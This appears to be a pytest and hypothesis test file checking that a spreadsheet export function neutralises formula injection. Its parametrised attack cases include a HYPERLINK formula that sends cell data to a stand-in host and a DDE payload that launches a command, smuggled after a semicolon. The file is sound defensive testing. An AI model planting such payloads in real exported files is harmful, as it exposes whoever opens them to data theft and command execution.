"""No cell of ours is calculated, wherever a spreadsheet cuts the line."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from node.present.spreadsheet import CUTS, FORMULAS, cell

BEGINS = re.compile(rf"[\s\"]*[{FORMULAS}]")


@pytest.mark.parametrize("text", ["Ana Lima", "AB-123", "a@b.pt", "1+1", "name=Ana"])
def test_a_text_that_is_no_formula_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.attack
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1,"x")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\uff1dcmd",
        "name=Ana;=cmd|' /C calc'!A0",
        'Silva; "=1+1"',
        " =1+1",
        "a,@b",
        "\t=1",
    ],
)
def test_attack_a_value_becomes_a_formula_where_the_file_is_opened(text):
    safe = cell(text)
    assert not any(BEGINS.match(piece) for piece in re.split(f"[{CUTS}]", safe))


@pytest.mark.attack
@given(st.text("=+-@;,|\" '\uff1dA1\t\n", max_size=30))
def test_attack_any_text_becomes_a_formula(text):
    safe = cell(text)
    assert not any(BEGINS.match(piece) for piece in re.split(f"[{CUTS}]", safe))
    assert not set(safe) & set("\t\n\r")
